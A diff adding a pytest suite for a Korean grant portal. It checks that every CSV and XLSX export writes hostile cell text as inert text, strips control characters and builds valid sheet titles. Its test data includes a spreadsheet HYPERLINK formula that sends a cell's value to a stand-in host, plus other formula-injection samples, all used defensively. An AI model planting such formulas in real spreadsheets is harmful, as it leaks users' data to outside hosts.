@@ -1,0 +1,124 @@
+"""Every CSV and XLSX the portal writes, with hostile text in it (issue 21, kind 4): a title that is a formula,
+a title holding U+000B, a panel named with a colon. Text stays text, control characters go, sheet titles are
+valid; no export answers 500. The walk is checked against the URL configuration, so a new export joins it."""
+import csv
+import io
+from datetime import datetime
+
+import pytest
+from django.urls import URLPattern, URLResolver, get_resolver, reverse
+from openpyxl import load_workbook
+
+from applications.models import SEOUL, Proposal
+from portal.spreadsheets import safe_cell, sheet_title
+from reviews.models import Panel, PresentationSlot
+from tests.tracking.builders import confirmed_run
+from tracking.support_lines import LINES
+from tracking.tables import TABLES
+
+pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("english")]
+
+FORMULA = '=HYPERLINK("http://example.invalid/?x="&B2,"사과")'
+VERTICAL_TAB = "함양 산삼\x0b항노화 과제"
+PANEL = "제2분과: 발표평가"
+
+
+@pytest.fixture
+def hostile(registry, council, django_capture_on_commit_callbacks, celery_eager):
+    run = confirmed_run(council, django_capture_on_commit_callbacks)
+    Proposal.objects.filter(contest=run.contest, lead_local_government__code="48870").update(title=FORMULA)
+    Proposal.objects.filter(contest=run.contest, lead_local_government__code="46720").update(title=VERTICAL_TAB)
+    Proposal.objects.filter(contest=run.contest, lead_local_government__code="43800").update(title="@SUM(1+1)")
+    Panel.objects.filter(contest=run.contest, stage="document").update(name=PANEL)
+    Panel.objects.filter(contest=run.contest, stage="presentation").update(name="[발표]/현장*평가?" + "가" * 40)
+    presentation = Panel.objects.get(contest=run.contest, stage="presentation")
+    hamyang = Proposal.objects.get(contest=run.contest, lead_local_government__code="48870")
+    PresentationSlot.objects.create(panel=presentation, proposal=hamyang, room="-2+3 회의실",
+                                    starts_at=datetime(2025, 10, 28, 10, tzinfo=SEOUL),
+                                    ends_at=datetime(2025, 10, 28, 10, 30, tzinfo=SEOUL))
+    return run
+
+
+def export_urls(run) -> dict[str, str]:
+    contest = run.contest
+    urls = {f"contest-proposals-export {fmt}": reverse("applications:contest-proposals-export",
+                                                       args=[contest.pk, fmt]) for fmt in ("csv", "xlsx")}
+    for panel in Panel.objects.filter(contest=contest):
+        urls[f"panel-results-export {panel.stage}"] = reverse("reviews:panel-results-export", args=[panel.pk])
+        urls[f"panel-schedule {panel.stage}"] = reverse("reviews:panel-schedule", args=[panel.pk])
+    urls["run-export"] = reverse("selection:run-export", args=[run.pk])
+    for table in TABLES:
+        if table != "support":
+            urls[f"rows {table}"] = reverse("tracking:rows", args=[contest.pk, table]) + "?export=xlsx"
+    for line in LINES:  # the lines the dashboard's support table offers
+        urls[f"rows support {line}"] = (reverse("tracking:rows", args=[contest.pk, "support"])
+                                        + f"?line={line}&export=xlsx")
+    return urls
+
+
+def _cells(response) -> list[object]:
+    if response["Content-Type"].startswith("text/csv"):
+        return [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]
+    book = load_workbook(io.BytesIO(response.content))
+    for sheet in book.worksheets:
+        assert sheet.title == sheet_title(sheet.title) and len(sheet.title) <= 31
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+    return [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+
+
+def test_every_export_writes_hostile_text_as_text(client, council, hostile):
+    client.force_login(council)
+    titles_seen = set()
+    for label, url in export_urls(hostile).items():
+        response = client.get(url)
+        assert response.status_code == 200, (label, response.status_code)
+        assert "attachment" in response["Content-Disposition"]
+        cells = [str(value) for value in _cells(response) if value is not None]
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), label
+        assert not any("\x0b" in cell for cell in cells), label
+        titles_seen.update(cell for cell in cells if cell in {"'" + FORMULA, "함양 산삼항노화 과제", "'@SUM(1+1)"})
+    assert titles_seen == {"'" + FORMULA, "함양 산삼항노화 과제", "'@SUM(1+1)"}
+
+
+def test_the_walk_reaches_every_export_the_urls_offer(hostile):
+    """Every URL that serves a file the portal writes (.xlsx, .csv, export) is in ``export_urls``."""
+    def names(resolver, namespace=""):
+        for pattern in resolver.url_patterns:
+            if isinstance(pattern, URLResolver):
+                yield from names(pattern, f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace)
+            elif isinstance(pattern, URLPattern) and pattern.name and any(
+                    mark in str(pattern.pattern) for mark in (".xlsx", ".csv", "export")):
+                yield f"{namespace}{pattern.name}"
+
+    walked = {label.split()[0] for label in export_urls(hostile)} - {"rows"}
+    offered = {name.rsplit(":", 1)[-1] for name in names(get_resolver()) if not name.startswith("admin:")}
+    assert offered == walked
+
+
+def test_the_proposal_list_exports_keep_the_formula_as_visible_text(client, council, hostile):
+    client.force_login(council)
+    url = reverse("applications:contest-proposals-export", args=[hostile.contest.pk, "csv"])
+    assert f'"\'{FORMULA.replace(chr(34), chr(34) * 2)}"' in client.get(url).content.decode("utf-8-sig")
+
+
+@pytest.mark.parametrize(("title", "taken", "expected"), [
+    (PANEL, (), "제2분과  발표평가".replace("  ", " ")),
+    ("a/b\\c?d*e[f]g", (), "a b c d e f g"),
+    ("'quoted'", (), "quoted"),
+    ("", (), "Sheet"),
+    ("가" * 40, (), "가" * 31),
+    ("Results", ("results",), "Results (2)"),
+    ("가" * 40, ("가" * 31,), "가" * 27 + " (2)"),
+])
+def test_sheet_titles_are_valid_and_unique(title, taken, expected):
+    assert sheet_title(title, taken) == expected
+
+
+@pytest.mark.parametrize(("value", "expected"), [
+    ("=1+1", "'=1+1"), ("+82 10", "'+82 10"), ("-3", "'-3"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\nx"),
+    ("a\x0bb\x00c\x1f", "abc"), ("줄1\r\n줄2", "줄1\n줄2"), (-3, -3), (None, None), ("함양군", "함양군"),
+])
+def test_cells_are_neutralised(value, expected):
+    assert safe_cell(value) == expected
